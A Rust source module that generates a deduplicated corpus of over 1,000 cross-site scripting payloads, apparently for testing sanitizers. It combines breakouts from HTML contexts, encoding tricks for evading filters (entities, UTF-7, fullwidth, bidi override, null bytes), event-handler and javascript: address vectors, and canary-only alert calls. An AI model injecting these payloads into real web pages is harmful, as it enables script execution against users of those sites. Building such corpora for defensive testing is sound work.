//! What people have written to make a page run it: families of real vectors,
//! put into the contexts that they break out of and the encodings in which
//! they hide. Written for this project; every payload would do something where
//! its family works, and none differs from another by padding.
//!
//! Knows no page and no backend.

use std::collections::BTreeSet;

mod elements;
mod words;

/// In every payload that would run: what it would call, or where it would go.
pub(crate) const CANARY: &str = "c4n4ry";

/// One payload, and what kind it is of.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Payload {
    pub(crate) family: &'static str,
    pub(crate) text: String,
}

/// What a vector runs, in the place of `{X}`: each vector gets the next.
const CALLS: [&str; 8] = [
    "alert('c4n4ry')",
    "confirm(`c4n4ry`)",
    "prompt('c4n4ry')",
    "top['al'+'ert']('c4n4ry')",
    "self[/*x*/'alert'/*x*/](/c4n4ry/.source)",
    "[].constructor.constructor('alert(\"c4n4ry\")')()",
    "setTimeout('alert(\"c4n4ry\")')",
    "location='javascript:alert(%22c4n4ry%22)'",
];

/// Where a text may find itself, and how it gets out of there.
const CONTEXTS: [(&str, &str); 12] = [
    ("", ""),
    ("\">", ""),
    ("'>", ""),
    ("`>", ""),
    ("</title>", "<title>"),
    ("</textarea>", "<textarea>"),
    ("</style>", "<style>"),
    ("</script>", "<script>"),
    ("-->", "<!--"),
    ("]]>", "<![CDATA["),
    ("</noscript>", "<noscript>"),
    ("</template>", "<template>"),
];

/// Ways to hide what a text is.
fn encoded(text: &str) -> Vec<String> {
    let each = |write: fn(char) -> String| text.chars().map(write).collect::<String>();
    let marks = |write: fn(char) -> String| {
        let sign = |it: char| "<>\"'&=:/".contains(it);
        let each = text
            .chars()
            .map(|it| if sign(it) { write(it) } else { it.to_string() });
        each.collect::<String>()
    };
    vec![
        marks(|it| format!("%{:02X}", u32::from(it))),
        marks(|it| format!("%25{:02X}", u32::from(it))),
        marks(|it| format!("&#{};", u32::from(it))),
        marks(|it| format!("&#x{:x};", u32::from(it))),
        marks(|it| format!("&#{:07}", u32::from(it))),
        marks(|it| format!("\\u{:04x}", u32::from(it))),
        marks(|it| format!("\\x{:02x}", u32::from(it))),
        each(|it| {
            char::from_u32(u32::from(it) + 0xFEE0)
                .filter(|_| it.is_ascii_graphic())
                .unwrap_or(it)
                .to_string()
        }),
        text.replace('<', "+ADw-").replace('>', "+AD4-"),
        text.replace('<', "\u{2039}").replace('>', "\u{203a}"),
        text.replace('<', "<\0"),
        text.replace('<', "\u{202e}<").replace('>', ">\u{202c}"),
    ]
}

/// All of them, in an order that is always the same.
pub(crate) fn payloads() -> Vec<Payload> {
    let mut seen = BTreeSet::new();
    let mut payloads = Vec::new();
    let mut calls = CALLS.iter().cycle();
    let mut add = |family: &'static str, text: String| {
        let call = calls.next().copied().unwrap_or_default();
        let text = text.replace("{X}", call);
        if seen.insert(text.clone()) {
            payloads.push(Payload { family, text });
        }
    };
    for (family, vectors) in elements::FAMILIES {
        for (place, vector) in vectors.iter().enumerate() {
            add(family, (*vector).to_owned());
            // Each breaks out of two of the contexts, all vectors together out
            // of all.
            for step in 0..2 {
                let (before, after) = CONTEXTS[1 + (place * 5 + step * 3) % (CONTEXTS.len() - 1)];
                add(family, format!("{before}{vector}{after}"));
            }
        }
        for vector in vectors.iter().take(2) {
            for hidden in encoded(vector) {
                add("encoded", hidden);
            }
        }
    }
    for (family, vectors) in words::FAMILIES {
        for vector in *vectors {
            add(family, (*vector).to_owned());
        }
    }
    for event in words::EVENTS {
        for (element, more) in words::HOSTS {
            add("event handler", format!("<{element} {event}={{X}} {more}>"));
        }
        add("attribute breakout", format!("x\" {event}=\"{{X}}"));
        add("attribute breakout", format!("x' {event}='{{X}}' y='"));
        add("attribute breakout", format!("x` {event}={{X}} `"));
    }
    for scheme in words::SCHEMES {
        add("script address", format!("{scheme}{{X}}"));
        add(
            "script address",
            format!("<a href=\"{scheme}{{X}}\">{CANARY}</a>"),
        );
        add("markdown", format!("[{CANARY}]({scheme}{{X}})"));
    }
    payloads
}

#[test]
fn the_corpus_is_what_it_says() {
    let payloads = payloads();
    let texts: BTreeSet<&str> = payloads.iter().map(|it| it.text.as_str()).collect();
    let families: BTreeSet<&str> = payloads.iter().map(|it| it.family).collect();
    assert_eq!(texts.len(), payloads.len(), "each is there once");
    // None is another one with space, letters or signs around it.
    let bare = |text: &str| {
        text.trim_matches(|it: char| !it.is_alphanumeric())
            .to_lowercase()
    };
    let contexts: BTreeSet<String> = texts.iter().map(|it| bare(it)).collect();
    assert!(contexts.len() >= 1_000, "{} when stripped", contexts.len());
    assert!(payloads.len() >= 1_000, "{} payloads", payloads.len());
    assert!(
        families.len() >= 20,
        "{} families: {families:?}",
        families.len()
    );
    for family in &families {
        let of_it = payloads.iter().filter(|it| it.family == *family).count();
        assert!(of_it >= 8, "{family}: {of_it}");
    }
    println!(
        "corpus: {} payloads of {} families",
        payloads.len(),
        families.len()
    );
}
